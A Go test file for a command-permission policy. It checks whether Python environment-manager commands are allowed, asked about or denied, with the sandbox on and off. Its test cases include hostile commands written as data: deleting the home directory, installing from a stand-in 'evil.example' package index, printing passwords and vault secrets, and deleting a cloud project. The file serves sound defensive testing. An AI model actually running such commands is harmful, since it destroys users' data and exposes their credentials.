package policy

import "testing"

// TestPythonEnvManagers: Python's environment managers are one class.
// `uv run -m MOD` is python -m MOD in the project's environment (it asked
// as an option that "adds packages"); pipenv and rye run a command as uv
// run and poetry run do, install or sync what their lock file names
// (sandbox only), list what they manage, and test or format the project;
// pdm and hatch gained the same verbs. Adding a named package, another
// interpreter or index, a shell and publishing are not allowed (polcorp10:
// uv run -m pytest -q -k action_contract, pipenv run pytest). With the
// sandbox off the command they run is judged as it is without them.
func TestPythonEnvManagers(t *testing.T) {
	checkOnOff(t, []onOff{
		{"uv run -m pytest -q -k action_contract", Allow, Allow},
		{"uv run --module pytest -q", Allow, Allow},
		{"uv run -mpytest tests/", Allow, Allow},
		{"uv run --module=pytest", Allow, Allow},
		{"uv run --frozen -m mypy src", Allow, Allow},
		{"uv run -m http.server 8000", Ask, Ask},
		{"uv run -m pytest --rootdir=/etc", Ask, Ask},
		{"uv run -m", Ask, Ask},
		{`uv run -m "$M"`, Ask, Ask},
		{"uv run -m pip install evil", Allow, Ask}, // as uv run python -m pip install evil (P9-U1)
		{"pipenv run pytest", Allow, Allow},
		{"pipenv run python manage.py test", Allow, Allow},
		{"pipenv run rm -rf ~", Deny, Deny},
		{"pipenv run --python 3.12 pytest", Ask, Ask},
		{"pipenv install", Allow, Ask},
		{"pipenv install --dev", Allow, Ask},
		{"pipenv sync --dev", Allow, Ask},
		{"pipenv install requests", Ask, Ask},
		{"pipenv install --index-url https://evil.example/simple requests", Ask, Ask},
		{"pipenv graph", Allow, Allow},
		{"pipenv --venv", Allow, Allow},
		{"pipenv shell", Ask, Ask},
		{"rye run pytest", Allow, Allow},
		{"rye test", Allow, Allow},
		{"rye fmt", Allow, Allow},
		{"rye sync", Allow, Ask},
		{"rye add httpx", Ask, Ask},
		{"rye publish", Deny, Deny},
		{"pdm install", Allow, Ask},
		{"pdm sync", Allow, Ask},
		{"pdm add requests", Ask, Ask},
		{"pdm publish", Deny, Deny},
		{"hatch test", Allow, Allow},
		{"hatch publish", Deny, Deny},
		// A program the policy does not know, run through any of them,
		// is the environment's inside the sandbox and asks off, as it
		// does without the runner (it was allowed off: uv run op item
		// get … read a password). A secret printer the policy knows
		// (secretdecrypt.go) asks in both modes, through a runner too.
		{"uv run op item get github --fields password", Ask, Ask},
		{"poetry run vault kv get secret/prod", Ask, Ask},
		{"hatch run bw get password github", Allow, Ask},
		{"pdm run evilprog", Allow, Ask},
		{"pipenv run sometool", Allow, Ask},
		{"rye run sometool --x", Allow, Ask},
		{"uv run pytest -q", Allow, Allow},
		{"poetry run python manage.py test", Allow, Allow},
		{"uv run gcloud projects delete x", Deny, Deny},
		{"uv run ty check src/", Allow, Allow}, // ty, astral's type checker, is a project tool as mypy is
		{"ty check --config-file /tmp/x", Ask, Ask},
	})
}
